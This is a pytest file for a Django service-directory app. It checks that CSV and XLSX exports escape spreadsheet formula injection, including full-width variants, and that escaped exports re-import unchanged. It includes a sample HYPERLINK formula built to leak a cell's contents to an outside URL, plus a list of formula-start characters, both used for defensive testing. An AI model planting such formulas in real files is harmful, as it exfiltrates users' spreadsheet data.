"""Files people open in a spreadsheet never carry a live formula: a name an editor, a feed or a
boundary file gave (`=HYPERLINK(...)`) comes out as text in the coverage-gap CSV and in admin's
CSV and XLSX exports, and an exported file imports back unchanged."""

import csv
import io

import openpyxl
import pytest
from django.urls import reverse

from geography.models import CouncilArea
from services.models import Location, Service
from services.resources import LocationResource, ServiceResource

pytestmark = pytest.mark.django_db

# What spreadsheets read as the start of a formula (OWASP's list), and the full-width forms some
# read the same way.
FORMULA_STARTS = (
    *("=", "+", "-", "@", "\t", "\r"),
    *("\N{FULLWIDTH EQUALS SIGN}", "\N{FULLWIDTH PLUS SIGN}"),
    *("\N{FULLWIDTH HYPHEN-MINUS}", "\N{FULLWIDTH COMMERCIAL AT}"),
)

HOSTILE = 'HYPERLINK("https://example.org/?leak="&A1,"Click for details")'


@pytest.fixture
def admin_client_(client, django_user_model):
    client.force_login(
        django_user_model.objects.create_superuser("admin", "a@example.invalid", "pw")
    )
    return client


def renamed(start: str) -> str:
    name = f"{start}{HOSTILE}"
    roam = Service.all_objects.get(slug="roam")
    roam.name = name
    roam.save()
    Location.all_objects.create(
        service=roam, name=name, point={"type": "Point", "coordinates": [-3.19, 55.95]}
    )
    return name


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def assert_no_cell_is_a_formula(cells: list) -> None:
    formulas = [
        cell
        for cell in cells
        if isinstance(cell, str) and cell.startswith(FORMULA_STARTS) and not is_number(cell)
    ]
    assert formulas == []


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_the_coverage_gap_csv_has_no_formula(client, start):
    name = renamed(start)
    fife = CouncilArea.objects.get(code="S12000047")
    fife.name = f"{start}SUM(1+1)"
    fife.save()

    response = client.get(reverse("coverage-gap-csv"))

    cells = [cell for row in csv.reader(io.StringIO(response.content.decode())) for cell in row]
    assert_no_cell_is_a_formula(cells)
    assert any(name in cell for cell in cells)
    assert f"'{start}SUM(1+1)" in cells


def export_file(client, model, resource, file_format: str) -> bytes:
    fields = resource().get_export_order()
    prefix = resource.__name__.lower()
    response = client.post(
        reverse(f"admin:services_{model._meta.model_name}_export"),
        {"format": ["csv", "xlsx"].index(file_format), **{f"{prefix}_{f}": "on" for f in fields}},
    )
    assert response.status_code == 200
    return response.content


def cells_of(content: bytes, file_format: str) -> list:
    if file_format == "csv":
        return [cell for row in csv.reader(io.StringIO(content.decode())) for cell in row]
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert not [cell for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
    return [cell.value for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
@pytest.mark.parametrize(
    ("model", "resource"), [(Service, ServiceResource), (Location, LocationResource)]
)
@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_admin_exports_have_no_formula(admin_client_, file_format, model, resource, start):
    renamed(start)

    cells = cells_of(export_file(admin_client_, model, resource, file_format), file_format)

    assert_no_cell_is_a_formula(cells)
    # (XLSX keeps a carriage return as a line feed.)
    assert any(str(cell).startswith("'") and HOSTILE in str(cell) for cell in cells)
    # Numbers are numbers still: a longitude west of Greenwich is not text.
    if model is Location:
        assert -3.19 in cells or "-3.19" in cells


@pytest.mark.parametrize("file_format", ["csv", "xlsx"])
def test_an_escaped_export_imports_back_unchanged(admin_client_, file_format):
    name = renamed("=")
    content = export_file(admin_client_, Service, ServiceResource, file_format)

    upload = io.BytesIO(content)
    upload.name = f"services.{file_format}"
    preview = admin_client_.post(
        reverse("admin:services_service_import"),
        {"format": ["csv", "xlsx"].index(file_format), "import_file": upload},
    )

    result = preview.context["result"]
    assert not result.has_errors()
    assert not result.has_validation_errors()
    assert result.totals["skip"] == Service.all_objects.count()
    assert Service.all_objects.get(slug="roam").name == name
